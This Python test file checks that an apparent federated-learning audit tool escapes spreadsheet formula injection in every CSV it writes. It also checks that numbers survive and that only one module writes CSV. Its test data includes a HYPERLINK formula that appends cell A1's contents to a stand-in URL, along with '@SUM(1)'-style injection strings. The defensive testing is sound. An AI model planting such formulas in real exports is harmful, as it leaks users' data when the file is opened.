"""Every CSV that is written: a spreadsheet shows its text and computes none of it; numbers stay numbers, and everything can be read back."""

import csv
import io
import re
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest

from fedaudit.reports import templates
from fedaudit.reports.papers import dpfpl_figure3
from fedaudit.reports.report import Evidence
from tests.evidence import built, evidence
from tests.prompt_evidence import attacked, prompt_evidence

pytestmark = pytest.mark.usefixtures("unsafe_but_quick")

ROOT = Path(__file__).parent.parent
COMPUTED = "=+-@\t\r\n＝＋－＠"
EVIL = '=HYPERLINK("http://x?"&A1,"hello")'


@pytest.mark.parametrize("start", COMPUTED, ids=[f"{ord(c):04x}" for c in COMPUTED])
def test_text_that_would_be_computed_is_shown(start: str) -> None:
    table = pd.DataFrame({start: [f"{start}1+1", "a", None], "value": [-1.5, 2.0, 0.25], "n": [-1, 0, 1]})
    back = pd.read_csv(io.BytesIO(templates.csv(table)), keep_default_na=False)
    shown = start.replace("\r", "\n")
    assert list(back) == [f"'{shown}", "value", "n"]
    assert back.iloc[:, 0].tolist() == [f"'{shown}1+1", "a", ""]
    assert back.n.tolist() == [-1, 0, 1]
    assert back.value.tolist() == [-1.5, 2.0, 0.25]


def test_text_and_numbers_that_stay_as_they_are() -> None:
    assert templates.csv(pd.DataFrame({"x": ["none", -0.5, -3, True]})) == b"x\nnone\n-0.5\n-3\nTrue\n"
    table = pd.DataFrame({"value": ["-0.30", "7", "-1+1", "-0.30 ", "-"]})
    assert templates.csv(table).decode() == "value\n-0.30\n7\n'-1+1\n'-0.30 \n'-\n"
    table = pd.DataFrame({"client": ["client-00", "a=b", "", 'say "hi", twice']})
    assert templates.csv(table).decode() == 'client\nclient-00\na=b\n""\n"say ""hi"", twice"\n'
    assert list(cells(templates.csv(pd.DataFrame({"x": ["a\r=1+1"]})))) == ["x", "a\n=1+1"]


def hostile(e: Evidence) -> Evidence:
    """The same evidence with clients, records and tokens whose names would be computed."""
    tables = {
        name: t.assign(**{c: EVIL + t[c].astype(str) for c in ("client", "record", "word") if len(t) and c in t})
        for name, t in e.tables.items()
    }
    return replace(e, tables=tables, task="@SUM(1)", findings=[f | {"task": "@SUM(1)"} for f in e.findings])


PROMPTS = [hostile(attacked(prompt_evidence("dpfpl", epsilon), "shadow", "lira")) for epsilon in (float("inf"), 0.1)]


@pytest.mark.parametrize("given", [[hostile(evidence("fedrand", 0))], PROMPTS], ids=["adapters", "prompts"])
def test_every_csv_of_a_report(given: Sequence[Evidence]) -> None:
    files = {name: data for name, data in built(list(given)).items() if name.endswith(".csv")}
    seen = [cell for data in files.values() for cell in cells(data)]
    assert {"findings.csv", "figures/exposed.csv"} <= files.keys()
    begun = [cell for cell in seen if cell.startswith(tuple(COMPUTED))]
    assert [cell for cell in begun if not re.fullmatch(r"-?[\d.e+-]+|-inf", cell)] == []
    assert "'@SUM(1)" in seen
    assert any(cell.startswith(f"'{EVIL}client-0") for cell in seen)


def test_the_csv_of_a_papers_figure() -> None:
    files: dict[str, bytes] = {}
    dpfpl_figure3.figure3({"=1+1": PROMPTS}, files.__setitem__)
    assert "'=1+1" in set(cells(files["figure3.csv"]))


def test_nothing_else_writes_csv() -> None:
    folders = ("trainers", "attacks", "audits", "reports", "fedaudit", "recipes", "benchmarks")
    sources = [path for folder in folders for path in (ROOT / folder).rglob("*.py")]
    writers = [p for p in sources if re.search(r"to_csv|csv\.(writer|DictWriter)|to_excel", p.read_text("utf-8"))]
    assert [path.relative_to(ROOT).as_posix() for path in writers] == ["reports/templates.py"]


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode(), newline="")) for cell in row]
